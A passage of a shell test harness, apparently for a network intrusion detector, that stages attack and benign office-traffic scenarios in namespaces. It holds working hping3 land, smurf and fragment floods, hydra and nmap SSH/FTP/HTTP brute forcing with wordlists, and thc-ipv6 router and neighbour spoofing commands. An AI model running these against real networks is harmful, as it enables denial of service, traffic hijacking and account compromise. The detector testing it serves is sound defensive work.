scn_hping_land() { inns evil hping3 -q -S -a "$nas" -s 80 -k -p 80 -c 1200 -i u500 "$nas" || true; }
scn_hping_smurf() {
	# 700 echo requests to the broadcast address forged from the NAS: five quiet hosts answer each.
	for i in $(seq 100 104); do inns "h$i" sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=0; done
	inns evil hping3 -q -1 -a "$nas" -c 700 -i u1000 "$NET.255" || true
	for i in $(seq 100 104); do inns "h$i" sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=1; done
}
scn_hping_frag_flood() { inns evil timeout 2 hping3 -q -1 -f -d 600 -i u1000 "$nas" || true; }
scn_hping_frag_flood_small() { inns evil hping3 -q -1 -f -d 64 -c 1500 -i u500 "$nas" || true; }
# Cleartext services on the NAS for hydra: telnet, FTP and HTTP basic auth, each refusing every login.
cat >"$tmp/login.py" <<'EOF'
import socket, threading, base64
def tel(c):
    for _ in range(20):
        c.sendall(b"nas login: ")
        if not c.recv(256): return
        c.sendall(b"Password: ")
        if not c.recv(256): return
        c.sendall(b"\r\nLogin incorrect\r\n")
def ftp(c):
    c.sendall(b"220 nas FTP ready\r\n")
    while True:
        l = c.recv(256)
        if not l: return
        c.sendall(b"331 Password required\r\n" if l.upper().startswith(b"USER") else b"530 Login incorrect.\r\n")
def web(c):
    while True:
        l = c.recv(4096)
        if not l: return
        c.sendall(b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"nas\"\r\nContent-Length: 0\r\n\r\n")
def serve(port, h):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("", port)); s.listen(64)
    while True:
        c, _ = s.accept()
        def run(c=c):
            try: h(c)
            except OSError: pass
            finally: c.close()
        threading.Thread(target=run, daemon=True).start()
for p, h in [(23, tel), (21, ftp), (81, web)]:
    threading.Thread(target=serve, args=(p, h), daemon=True).start()
threading.Event().wait()
EOF
printf 'admin\nroot\nuser\n' >"$tmp/users"
printf '123456\npassword\nadmin\nletmein\nqwerty\n' >"$tmp/pw"
hydra_run() { spawn nas "$py" "$tmp/login.py"; sleep 1; (cd "$tmp" && inns evil hydra -L "$tmp/users" -P "$tmp/pw" -t 4 -f "$@") || true; kill_nas_login; }
kill_nas_login() { local p; for p in $(ip netns pids "$P-nas"); do grep -q login.py /proc/$p/cmdline 2>/dev/null && kill "$p"; done; }
scn_hydra_telnet() { hydra_run "telnet://$nas"; }
scn_hydra_ftp() { hydra_run "ftp://$nas"; }
scn_hydra_http_basic() { hydra_run -s 81 "http-get://$nas/"; }
# Real services for the brute-force scenarios: OpenSSH's sshd (its own
# config, host key and port 22 in the NAS's namespace, no PAM), pyftpdlib's
# FTP server, and an HTTP server asking for basic auth. sshd logs in the
# namespace's user "nobody" by key only (the PC's); hydra tries admin, whom
# no server lets in.
ssh-keygen -q -t ed25519 -N '' -f "$tmp/ssh_host_key"
ssh-keygen -q -t ed25519 -N '' -f "$tmp/pc_key"
cat >"$tmp/sshd_config" <<EOF
Port 22
ListenAddress $NET.30
HostKey $tmp/ssh_host_key
PidFile none
UsePAM no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PermitRootLogin prohibit-password
StrictModes no
AuthorizedKeysFile $tmp/pc_key.pub
MaxStartups 100
EOF
cat >"$tmp/basic.py" <<'EOF'
import base64, http.server, sys
good = "Basic " + base64.b64encode(b"admin:Tr0ub4dor&3").decode()
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        if self.headers.get("Authorization") != good:
            self.send_response(401); self.send_header("WWW-Authenticate", 'Basic realm="nas"')
            self.send_header("Content-Length", "0"); self.end_headers(); return
        body = b"x" * 1500
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
    def log_message(self, *a): pass
http.server.ThreadingHTTPServer((sys.argv[1], 8000), H).serve_forever()
EOF
mkdir -p "$tmp/ftproot" /run/sshd
for i in $(seq 1 10); do head -c 3000 /dev/urandom >"$tmp/ftproot/f$i.bin"; done
printf 'admin\n' >"$tmp/user1"
{ printf '123456\npassword\n12345678\nqwerty\n123456789\n12345\n1234\n111111\n1234567\ndragon\n'; seq -f 'Winter%g!' 2000 2299; } >"$tmp/pw300"
head -45 "$tmp/pw300" >"$tmp/pw45"
start_services() {
	spawn nas /usr/sbin/sshd -D -f "$tmp/sshd_config" -E "$tmp/sshd.log"
	spawn nas "$py" -m pyftpdlib -i "$nas" -p 21 -u admin -P 'Tr0ub4dor&3' -d "$tmp/ftproot"
	spawn nas "$py" "$tmp/basic.py" "$nas"
	local i
	for i in $(seq 50); do # until all three listen
		[ "$(inns nas ss -Hltn "( sport = :22 or sport = :21 or sport = :8000 )" | wc -l)" -ge 3 ] && break
		sleep 0.2
	done
}
stop_services() {
	local p
	for p in $(ip netns pids "$P-nas"); do grep -qaE 'sshd|pyftpdlib|basic.py' /proc/$p/cmdline 2>/dev/null && kill "$p"; done
	sleep 0.5
}
# hydra with its default 16 tasks (4 for SSH, as it advises) and 310 passwords, for 20 s.
brute() { start_services; (cd "$tmp" && inns evil timeout 20 hydra -l admin -P "$tmp/pw300" -I "$@") || true; stop_services; } # in $tmp: hydra leaves hydra.restore where it runs
scn_hydra_ssh() { brute -t 4 "ssh://$nas"; }
# nmap's ssh-brute script: one connection per guess, 45 guesses.
scn_nmap_ssh_brute() { start_services; inns evil nmap -n -Pn -p 22 --script ssh-brute --script-args "userdb=$tmp/user1,passdb=$tmp/pw45" "$nas" || true; stop_services; }
scn_hydra_ftp_real() { brute "ftp://$nas"; }
scn_hydra_http_basic_real() { brute -s 8000 "http-get://$nas/"; }
# The same services used as people and scripts do: ten SSH commands in a row
# (a script without connection sharing), one mistyped web password, then a
# page of 40 resources behind basic auth fetched over separate connections,
# a dozen FTP downloads.
scn_benign_logins() {
	start_services
	local i o="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -i $tmp/pc_key"
	for i in $(seq 1 10); do inns pc ssh $o "root@$nas" true 2>/dev/null || true; done
	inns pc curl -s -o /dev/null -u 'admin:Tr0ub4dor&' "http://$nas:8000/" || true
	for i in $(seq 1 40); do inns pc curl -s -o /dev/null -u 'admin:Tr0ub4dor&3' "http://$nas:8000/r$i" || true; done
	for i in $(seq 1 10); do inns pc curl -s -o /dev/null -u 'admin:Tr0ub4dor&3' "ftp://$nas/f$i.bin" || true; done
	stop_services
}
# A busy office: 20 clients with DNS, web and SMB-like traffic to the NAS, DHCP
# renewals, SNMP polls of 20 hosts every 3 s and a backup client on many ports.
cat >"$tmp/snmpd.py" <<'EOF'
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("", 161))
while True:
    d, a = s.recvfrom(2048); s.sendto(d, a)
EOF
cat >"$tmp/smb.py" <<'EOF'
import socket, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("", 445)); s.listen(64)
def talk(c):
    try:
        while True:
            d = c.recv(4096)
            if not d: return
            c.sendall(b"\0\0\1\0" + b"r" * 256)
    finally: c.close()
while True:
    c, _ = s.accept(); threading.Thread(target=talk, args=(c,), daemon=True).start()
EOF
scn_benign_busy_office() {
	spawn nas "$py" "$tmp/smb.py"
	for i in $(seq 100 119); do spawn "h$i" "$py" "$tmp/snmpd.py"; done
	sleep 1
	# The monitoring server (pc2) polls the 20 hosts and the gateway every 3 s.
	spawn pc2 bash -c 'for r in 1 2 3 4 5 6 7; do for i in $(seq 100 119) 1; do snmpget -v2c -c public -r 0 -t 1 '$NET'.$i 1.3.6.1.2.1.1.3.0 & done; wait; sleep 3; done'
	for i in $(seq 100 119); do
		spawn "h$i" bash -c 'for r in 1 2 3; do
			python3 -c "import socket; [socket.getaddrinfo(n, 80, socket.AF_INET) for n in [\"nas.lan\", \"gw.lan\", \"example.com\"]]" || true
			curl -s -m 2 -o /dev/null http://'$nas'/; curl -s -m 2 -o /dev/null http://'$nas':8080/x
			python3 -c "import socket; s = socket.create_connection((\"'$nas'\", 445)); [(s.sendall(b\"\0\0\0\x40\" + b\"q\" * 64), s.recv(4096)) for _ in range(5)]"
			sleep 1; done'
	done
	# A backup client: data connections to the NAS's 30 open ports, four at a time.
	inns pc "$py" -c '
import socket, concurrent.futures as cf
def get(p):
    s = socket.create_connection(("'$nas'", p)); s.sendall(b"PUT / HTTP/1.0\r\n\r\n")
    while s.recv(4096): pass
    s.close()
with cf.ThreadPoolExecutor(4) as ex: list(ex.map(get, list(range(5000, 5030)) * 3))'
	# DHCP renewals of three clients with the real server (unicast REQUESTs to it).
	for h in h120 h121 h122; do scapy "$h" 'sendp(Ether(src=mac, dst="'$gwmac'")/IP(src=get_if_addr("eth0"), dst="'$NET.1'")/UDP(sport=68, dport=67)/
      BOOTP(ciaddr=get_if_addr("eth0"), chaddr=mac2str(mac), xid=RandInt())/DHCP(options=[("message-type", "request"), "end"]), iface="eth0")'; done
	sleep 20
	for i in $(seq 100 119); do ip netns pids "$P-h$i" | xargs -r kill; done
	local p; for p in $(ip netns pids "$P-nas"); do grep -q smb.py /proc/$p/cmdline 2>/dev/null && kill "$p"; done
}
scn_printer_discovery() {
	# A print server looking for printers: an SNMP get and a SYN to 9100 to every address of the subnet.
	inns pc2 "$py" -c '
import socket
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
q = bytes.fromhex("302602010104067075626c6963a01902046b1d3f2a020100020100300b300906052b060102010500")
for i in range(1, 255):
    u.sendto(q, ("'$NET'.%d" % i, 161))
for i in range(1, 255):
    s = socket.socket(); s.setblocking(False)
    try: s.connect_ex(("'$NET'.%d" % i, 9100))
    except OSError: pass
import time; time.sleep(3)'
}

# The provider's own monitoring and management on the client's LAN (issue 14):
# real net-snmp agents on the 30 quiet hosts and the gateway, OpenSSH on the
# NAS, and four one-minute cycles of what the provider's servers do there.
start_snmp_agents() {
	printf 'agentAddress udp:161\nrocommunity public\nsysLocation lab\nsysContact noc@msp.example\n' >"$tmp/snmpd.conf"
	local h
	for h in gw $(seq -f 'h%g' 100 129); do
		mkdir -p "$tmp/snmp-$h"
		spawn "$h" env SNMP_PERSISTENT_DIR="$tmp/snmp-$h" snmpd -f -Lo -C -c "$tmp/snmpd.conf" -p "$tmp/snmp-$h/pid"
	done
	sleep 2
}
stop_snmp_agents() {
	local h p
	for h in gw $(seq -f 'h%g' 100 129); do
		for p in $(ip netns pids "$P-$h"); do grep -qa snmpd /proc/$p/cmdline 2>/dev/null && kill "$p"; done
	done
}
monitored=$(echo "$NET.1" "$NET.30" $(seq -f "$NET.%g" 100 129))
# A Nagios/Icinga server (pc2) with its default one-minute check interval:
# host checks (check_ping, 5 echoes, all hosts at once as max_concurrent_checks
# allows), check_http and check_snmp, and twelve check_by_ssh service checks on
# the NAS spread over the minute (Nagios's inter-check delay): 48 SSH sessions
# in four minutes, each a key login that runs a plugin and returns its output.
scn_benign_nagios_checks() {
	start_services
	start_snmp_agents
	local o="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i $tmp/pc_key"
	cat >"$tmp/nagios.sh" <<EOF
pl=/usr/lib/nagios/plugins
for cycle in 1 2 3 4; do
	t0=\$(date +%s)
	for h in $monitored; do \$pl/check_ping -H \$h -w 100,20% -c 500,60% -p 5 -t 10 >/dev/null & done
	\$pl/check_http -H $nas -p 80 -t 5 >/dev/null &
	for h in $NET.1 \$(seq -f "$NET.%g" 100 109); do \$pl/check_snmp -H \$h -C public -P 2c -o 1.3.6.1.2.1.1.3.0 >/dev/null & done
	for c in "check_load -w 5,4,3 -c 10,8,6" "check_disk -w 20% -c 10% -p /" "check_users -w 5 -c 10" "check_procs -w 250 -c 400" \\
		"check_swap -w 20% -c 10%" "check_procs -C sshd -c 1:" "check_disk -w 20% -c 10% -p /tmp" "check_load -r -w 2 -c 4" \\
		"check_procs -s Z -w 1 -c 5" "check_file_age -w 3600 -c 7200 -f /etc/hostname" "check_users -w 10 -c 20" "check_procs -w 300 -c 500 -s R"; do
		\$pl/check_by_ssh -H $nas -l root -t 10 $o -C "\$pl/\$c" >/dev/null &
		sleep 4.5
	done
	wait
	sleep \$((60 - (\$(date +%s) - t0))) 2>/dev/null || true
done
EOF
	inns pc2 bash "$tmp/nagios.sh"
	stop_snmp_agents
	stop_services
}
# An SNMP poller (LibreNMS, PRTG: pc2) walking the system and interface tables
# of 31 agents every minute with snmpbulkwalk, and a latency monitor
# (SmokePing: pc) sending fping's 3 echoes to the same hosts every minute, for
# four minutes.
scn_benign_snmp_fping_pollers() {
	start_snmp_agents
	cat >"$tmp/poll.sh" <<EOF
for cycle in 1 2 3 4; do
	for h in $monitored; do
		[ \$h = $nas ] && continue
		snmpbulkwalk -v2c -c public -t 2 -r 1 \$h 1.3.6.1.2.1.1 >/dev/null
		snmpbulkwalk -v2c -c public -t 2 -r 1 \$h 1.3.6.1.2.1.2.2 >/dev/null
		snmpwalk -v2c -c public -t 2 -r 1 \$h 1.3.6.1.2.1.31.1.1.1.6 >/dev/null
	done &
	sleep 60
done
wait
EOF
	cat >"$tmp/fping.sh" <<EOF
sleep 7
for cycle in 1 2 3 4; do fping -q -C 3 -p 1000 $monitored 2>/dev/null & sleep 60; done
wait
EOF
	inns pc bash "$tmp/fping.sh" & local f=$!
	inns pc2 bash "$tmp/poll.sh"
	wait "$f" || true
	stop_snmp_agents
}
# The backup server (pc2) pulling the NAS's files at night: smbclient with a
# user's password over SMB 2/3 (Samba's smbd), then rsync over SSH (key login).
start_smbd() { # Samba's smbd on the NAS, SMB2 and later, the share "data" and the user root (password Backup-2026)
	mkdir -p "$tmp/smb"/{lock,state,cache,private,pid,ncalrpc,binddns} "$tmp/backup"
	cat >"$tmp/smb.conf" <<EOF
[global]
workgroup = LAB
server role = standalone server
interfaces = $nas/24
bind interfaces only = yes
smb ports = 445
disable netbios = yes
server min protocol = SMB2
lock directory = $tmp/smb/lock
state directory = $tmp/smb/state
cache directory = $tmp/smb/cache
private dir = $tmp/smb/private
pid directory = $tmp/smb/pid
ncalrpc dir = $tmp/smb/ncalrpc
binddns dir = $tmp/smb/binddns
log file = $tmp/smb/log
passdb backend = tdbsam
load printers = no
printcap name = /dev/null
disable spoolss = yes
[data]
path = $tmp/ftproot
read only = yes
EOF
	printf 'Backup-2026\nBackup-2026\n' | inns nas smbpasswd -c "$tmp/smb.conf" -s -a root >/dev/null
	spawn nas smbd -F -s "$tmp/smb.conf" # its own process group: smbd signals its group when it stops
}
scn_benign_backup_pull() {
	start_services
	start_smbd
	local i; for i in $(seq 50); do inns nas ss -Hltn '( sport = :445 )' | grep -q . && break; sleep 0.2; done
	inns pc2 smbclient "//$nas/data" -s "$tmp/smb.conf" -U 'root%Backup-2026' -m SMB3 -c "prompt off; recurse on; lcd $tmp/backup; mget *"
	inns pc2 rsync -a -e "ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i $tmp/pc_key" "root@$nas:$tmp/ftproot/" "$tmp/backup/"
	local p; for p in $(ip netns pids "$P-nas"); do grep -qa smbd /proc/$p/cmdline 2>/dev/null && kill "$p"; done
	stop_services
}

# Review 36a P1 and P3: nmap -sV -O against a NAS running OpenSSH and Samba 4
# (server min protocol SMB2): -sV's SMB1 NEGOTIATE is refused (DialectIndex
# 0xFFFF), and -O's probes (SYN, SYN+ACK, RST; two rounds when no OS
# matches exactly) go to port 22. A port scan, no SMBv1 on the NAS and no
# password guessing.
scn_nmap_sV_O_samba_nas() {
	start_services
	start_smbd
	local i; for i in $(seq 50); do inns nas ss -Hltn '( sport = :445 )' | grep -q . && break; sleep 0.2; done
	inns evil nmap -Pn -n -sV -O -p 22,23,445 "$nas" # 23 closed: nmap needs a closed port for a full fingerprint
	local p; for p in $(ip netns pids "$P-nas"); do grep -qa smbd /proc/$p/cmdline 2>/dev/null && kill "$p"; done
	stop_services
}

# Session 15 (issue 14: "office traffic silent"): the loud shapes of a
# managed office that are no attack. office.py is one small program per
# role, run in the namespace that plays it: a UDP sink (the receiver a real
# server would be), a firewall or switch logging to syslog, a NetFlow v5
# exporter, RTP senders (a call, a conference bridge's participants and the
# bridge's mix back) and DNS clients asking the gateway's dnsmasq.
cat >"$tmp/office.py" <<'EOF'
import random, socket, struct, sys, time
role, args = sys.argv[1], sys.argv[2:]
def pace(rate, secs, send):
    t0, n = time.time(), 0
    while time.time() - t0 < secs:
        send(n); n += 1
        ahead = n / rate - (time.time() - t0)
        if ahead > 0: time.sleep(ahead)
if role == "sink": # PORT...: a server's listening sockets, reading and dropping
    import select
    ss = []
    for p in args:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("", int(p))); ss.append(s)
    while True:
        for s in select.select(ss, [], [])[0]: s.recv(65535)
elif role == "syslog": # DST RATE SECS NAME [short]: RFC 3164 messages from one socket, a firewall's, or a switch's short ones
    dst, rate, secs, name = args[0], float(args[1]), float(args[2]), args[3]
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if args[4:] == ["short"]: # no timestamps or host name (Cisco's default without "service timestamps", ProCurve's)
        msgs = ["%%LINK-3-UPDOWN: Interface Gi1/0/%d, changed state to down", "ports: port %d is now off-line",
                "%%LINK-3-UPDOWN: Interface Gi1/0/%d, changed state to up", "ports: port %d is now on-line", "STP: port %d Blocking"]
        def send(n):
            s.sendto(("<%d>%s" % (random.choice([187, 189, 190]), random.choice(msgs) % (n % 48 + 1))).encode(), (dst, 514))
        pace(rate, secs, send); sys.exit()
    msgs = ["%%LINK-3-UPDOWN: Interface GigabitEthernet1/0/%d, changed state to down",
            "%%LINEPROTO-5-UPDOWN: Line protocol on Interface Gi1/0/%d, changed state to up",
            "%%SEC-6-IPACCESSLOGP: list 101 denied tcp 10.88.8.%d(51234) -> 192.0.2.7(445), 1 packet",
            "%%ASA-6-302013: Built outbound TCP connection %d for outside:203.0.113.5/443 to inside:10.88.8.10/51234",
            "%%ASA-6-302014: Teardown TCP connection %d for outside:203.0.113.5/443 to inside:10.88.8.10/51234 duration 0:00:01 bytes 5120 TCP FINs",
            "%%ASA-4-106023: Deny udp src inside:10.88.8.%d/137 dst outside:192.0.2.9/137 by access-group \"in\""]
    def send(n):
        m = "<%d>%d: %s %s: %s" % (random.choice([134, 187, 190]), n, time.strftime("%b %d %H:%M:%S"), name, random.choice(msgs) % (n % 48 + 1))
        s.sendto(m.encode(), (dst, 514))
    pace(rate, secs, send)
elif role == "netflow": # DST RATE SECS: NetFlow v5 export, 30 records a datagram, one way to a collector
    dst, rate, secs = args[0], float(args[1]), float(args[2])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    def send(n):
        hdr = struct.pack("!HHIIIIBBH", 5, 30, int(time.monotonic() * 1000) & 0xffffffff, int(time.time()), 0, n * 30, 0, 0, 0)
        rec = b"".join(struct.pack("!4s4s4sHHIIIIHHBBBBHHBBH", socket.inet_aton("10.88.8.%d" % random.randint(2, 250)),
              socket.inet_aton("203.0.113.%d" % random.randint(1, 254)), b"\0" * 4, 1, 2, random.randint(1, 900), random.randint(60, 900000),
              0, 0, random.randint(1024, 65535), 443, 0, 0x1b, 6, 0, 0, 0, 24, 0, 0) for _ in range(30))
        s.sendto(hdr + rec, (dst, 2055))
    pace(rate, secs, send)
elif role == "rtp": # DST PORT SECS PAYLOAD: one RTP stream, 50 packets a second (20 ms frames)
    dst, port, secs, size = args[0], int(args[1]), float(args[2]), int(args[3])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("", port))
    ssrc, seq0 = random.getrandbits(32), random.getrandbits(16)
    rtcp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); rtcp.bind(("", port + 1)) # RTCP on the next port (RFC 3550 11)
    def report(n):
        if n % 100 == 0: rtcp.sendto(struct.pack("!BBHI", 0x80, 200, 6, ssrc) + bytes(20), (dst, port + 1)) # a sender report every 2 s
    pace(50, secs, lambda n: report(n) or s.sendto(struct.pack("!BBHII", 0x80, 0 if size == 160 else 18, (seq0 + n) & 0xffff, n * 160, ssrc) + bytes(size), (dst, port)))
elif role == "bridge": # SECS FIRST-PORT HOST...: the conference bridge's mix back to each participant once it joined
    secs, port, hosts = float(args[0]), int(args[1]), args[2:]
    socks, joined = [], set()
    for i, h in enumerate(hosts):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("", port + 2 * i)); s.setblocking(False); socks.append((s, h, port + 2 * i))
    def send(n):
        for s, h, p in socks:
            try:
                while True: s.recv(2048); joined.add(p)
            except BlockingIOError: pass
            if p in joined: s.sendto(struct.pack("!BBHII", 0x80, 0, n & 0xffff, n * 160, p) + bytes(160), (h, p))
    pace(50, secs, send)
elif role == "dns": # SERVER COUNT: a client's burst of queries (a browser opening a page, a mail server's lookups)
    srv, count = args[0], int(args[1])
    for i in range(count): # a socket a lookup, as glibc's stub resolver opens: a new source port each
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5)
        q = "h%d-%d.example.com" % (random.getrandbits(16), i)
        qn = b"".join(bytes([len(l)]) + l.encode() for l in q.split(".")) + b"\0"
        s.sendto(struct.pack("!HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0) + qn + struct.pack("!HH", 1, 1), (srv, 53))
        try: s.recv(512)
        except socket.timeout: pass
        s.close()
EOF
office() { local h=$1; shift; inns "$h" "$py" "$tmp/office.py" "$@"; }
quiet=$(seq -f 'h%g' 100 129)
# A switch (PC2's address) and the firewall (the gateway) logging to the
# NAS's syslog (a log server) in a
# burst: a port flapping, then a deny rule hit by a worm on one PC: 2,000
# short messages a second for 6 s (the switch's, 60 to 100 bytes a frame),
# then 1,500 of the firewall's for 5 s, one socket each (rsyslog and the
# vendors' syslog clients keep one).
scn_benign_syslog_burst() {
	spawn nas "$py" "$tmp/office.py" sink 514
	sleep 1
	office pc2 syslog "$nas" 2000 6 sw-core short
	office gw syslog "$nas" 1500 5 fw01
}
# SNMP traps in bursts (net-snmp's snmptrap, v2c linkDown/linkUp and
# authenticationFailure) from eleven agents to the NAS as the trap receiver,
# 60 each as fast as snmptrap forks: a switch stack rebooting.
scn_benign_snmp_trap_burst() {
	spawn nas "$py" "$tmp/office.py" sink 162
	sleep 1
	local h w=()
	for h in gw pc2 $(seq -f 'h%g' 100 108); do
		inns "$h" bash -c 'for i in $(seq 20); do for t in 1.3.6.1.6.3.1.1.5.3 1.3.6.1.6.3.1.1.5.4 1.3.6.1.6.3.1.1.5.5; do
			snmptrap -v 2c -c public '"$nas"' "" $t 1.3.6.1.2.1.2.2.1.1.$i i $i 2>/dev/null; done; done' & w+=($!)
	done
	wait "${w[@]}" || true
}
# A phone call (the PC and PC2, G.711 both ways) and a conference bridge on
# the NAS: 30 participants send audio and video, 50 RTP packets a second
# each (G.711, 20 ms; video frames of 1,000 bytes) and an RTCP sender report
# on the next port every 2 s, the bridge sends each its mix back: 3,000 a
# second into one host from 120 flows, 10 s.
scn_benign_rtp_conference() {
	local i=0 h hosts=() w=()
	for h in $quiet; do hosts+=("$NET.${h#h}"); done
	office nas bridge 18 20000 "${hosts[@]}" & w+=($!) # up before anyone joins, sending to each once it hears it
	office nas bridge 18 21000 "${hosts[@]}" & w+=($!)
	office pc rtp "$NET.11" 16000 10 160 & w+=($!)
	office pc2 rtp "$NET.10" 16000 10 160 & w+=($!)
	for h in $quiet; do # audio and video, each its own RTP flow (no BUNDLE)
		office "$h" rtp "$nas" $((20000 + 2 * i)) 10 160 & w+=($!)
		office "$h" rtp "$nas" $((21000 + 2 * i)) 10 1000 & w+=($!)
		i=$((i + 1))
	done
	wait "${w[@]}" || true
}
# The gateway exporting NetFlow v5 (30 flows a datagram, 1,464 bytes) to a
# collector on the NAS, one way: 300 a second for 8 s (a busy office's link).
scn_benign_netflow_export() {
	spawn nas "$py" "$tmp/office.py" sink 2055
	sleep 1
	office gw netflow "$nas" 300 8
}
# The gateway's dnsmasq as the office resolver taking bursts from 32
# clients at once (a login storm: every PC resolving 80 names, a socket each).
scn_benign_dns_burst() {
	local h w=()
	for h in pc pc2 $quiet; do office "$h" dns "$NET.1" 80 & w+=($!); done
	wait "${w[@]}" || true
}
# A client (a proxy, a sync agent) fetching an object 600 times from one HTTPS
# server with curl --parallel (50 at once, a new connection each: -H
# 'Connection: close'), against openssl s_server -WWW on the NAS.
scn_benign_parallel_https() {
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=nas.lan -days 2 \
		-keyout "$tmp/tls.key" -out "$tmp/tls.crt" 2>/dev/null
	mkdir -p "$tmp/www" && head -c 20000 /dev/urandom >"$tmp/www/obj"
	(cd "$tmp/www" && exec ip netns exec "$P-nas" openssl s_server -quiet -WWW -accept 443 -cert "$tmp/tls.crt" -key "$tmp/tls.key" >/dev/null 2>&1) & local s=$!
	pids+=($s)
	sleep 1
	local i urls=()
	for i in $(seq 600); do urls+=("https://$nas/obj"); done
	inns pc curl -sk --parallel --parallel-max 50 -H 'Connection: close' -o /dev/null "${urls[@]}" || true
	kill "$s" 2>/dev/null || true
}
# A network monitor polling fast: fping -l (loop, every host each second)
# over the 32 monitored hosts and snmpbulkwalk of 31 agents every 5 s, 60 s.
scn_benign_nms_fast_poll() {
	start_snmp_agents
	inns pc timeout 60 fping -q -l -p 1000 $monitored >/dev/null 2>&1 & local f=$!
	local t0=$SECONDS h w=()
	while ((SECONDS - t0 < 60)); do
		for h in $monitored; do
			[ "$h" = "$nas" ] || { inns pc2 snmpbulkwalk -v2c -c public -t 1 -r 0 "$h" 1.3.6.1.2.1.2.2 >/dev/null 2>&1 & w+=($!); }
		done
		sleep 5
	done
	wait "$f" "${w[@]}" || true
	stop_snmp_agents
}


# IPv6 (fd88:8::/64 beside link-local): the gateway is the IPv6 router when a
# scenario starts its advertisements (dnsmasq, RA only, every few seconds).
# thc-ipv6's tools are atk6-* on Debian.
gw6=$ULA::1
nas6=$ULA::30
pc6=$ULA::10
start_gw_ra() {
	spawn gw dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --port=0 --enable-ra \
		--ra-param=eth0,4,1800 --dhcp-range=$ULA::,ra-only,64,1h --dhcp-leasefile="$tmp/gw6.leases"
	sleep 1
}
thc() { local t=$1; shift; inns evil "atk6-$t" "$@"; }
# v6 SCENARIO-BODY: run with the gateway advertising, then stop it.
v6() { start_gw_ra; "$@"; pkill_gw_dnsmasq; start_gw_dnsmasq; }
# neigh_churn: the PC and PC2 forget and ask again for the NAS's and the
# gateway's IPv6 addresses (neighbour solicitations), N rounds a second apart.
neigh_churn() {
	local i h w=()
	for i in $(seq 1 "$1"); do
		for h in pc pc2; do
			inns "$h" ip -6 neigh flush dev eth0
			inns "$h" ping -6 -q -c 1 -W 1 "$nas6" >/dev/null 2>&1 & w+=($!)
			inns "$h" ping -6 -q -c 1 -W 1 "$gw6" >/dev/null 2>&1 & w+=($!)
		done
		sleep 1
	done
	wait "${w[@]}"
}
scn_v6_fake_router6() { v6 inns evil timeout 12 atk6-fake_router6 eth0 $ULA:66::/64; }
scn_v6_fake_router6_alone() { inns evil timeout 12 atk6-fake_router6 eth0 $ULA:66::/64; }
scn_v6_fake_router26() { v6 inns evil timeout 12 atk6-fake_router26 -A $ULA:66::/64 eth0; }
scn_v6_kill_router6() { v6 inns evil timeout 8 atk6-kill_router6 eth0 fe80::21a:a1ff:fe00:1; }
scn_v6_flood_router6() { v6 inns evil timeout 1 atk6-flood_router6 eth0; }
scn_v6_flood_router26() { v6 inns evil timeout 1 atk6-flood_router26 eth0; }
scn_v6_parasite6() { spawn evil timeout 10 atk6-parasite6 eth0; sleep 1; neigh_churn 6; }
scn_v6_fake_advertise6() {
	spawn nas ping -6 -q -c 30 -i 0.3 -I "$nas6" "$gw6"
	spawn pc ping -6 -q -c 30 -i 0.3 "$nas6"
	sleep 1
	thc fake_advertise6 -n 6 -w 1 eth0 "$nas6" "$pc6" b8:27:eb:00:00:66
}
scn_v6_redir6() {
	spawn pc ping -6 -q -c 20 -i 0.3 "$nas6"
	sleep 1
	thc redir6 eth0 "$pc6" "$nas6" "$gw6" "$ULA::66"
	sleep 2
}
dhcp6_solicit='
from scapy.all import *
conf.verb = 0
mac = get_if_hwaddr("eth0")
for i in range(2):
    sendp(Ether(src=mac, dst="33:33:00:01:00:02")/IPv6(src="fe80::3e52:82ff:fe00:10", dst="ff02::1:2")/UDP(sport=546, dport=547)/
          DHCP6_Solicit(trid=0x1000+i)/DHCP6OptClientId(duid=DUID_LL(lladdr=mac))/DHCP6OptIA_NA(iaid=1)/DHCP6OptElapsedTime(), iface="eth0")
    time.sleep(2)'
scn_v6_fake_dhcps6() {
	spawn evil timeout 8 atk6-fake_dhcps6 eth0 $ULA:66::/64 $ULA::66
	sleep 1
	inns pc timeout 5 "$py" -c "$dhcp6_solicit"
}
scn_v6_benign_dhcp6() {
	# The gateway's dnsmasq serves DHCPv6 (stateful, fd88:8::1000-1fff) and answers the PC's Solicit.
	spawn gw dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --port=0 --enable-ra \
		--dhcp-range=$ULA::1000,$ULA::1fff,64,1h --dhcp-option=option6:dns-server,[$gw6] --dhcp-leasefile="$tmp/gw6d.leases"
	sleep 1
	inns pc timeout 5 "$py" -c "$dhcp6_solicit"
	pkill_gw_dnsmasq
	start_gw_dnsmasq
}
scn_v6_benign_dhcp6_server_first() {
	# A server that is the office's DHCP server for both families (a domain
	# controller: here the NAS's dnsmasq, not the gateway) answers a DHCPv6
	# Solicit before any DHCPv4 exchange shows it as the DHCP server.
	pkill_gw_dnsmasq
	spawn nas dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --port=0 \
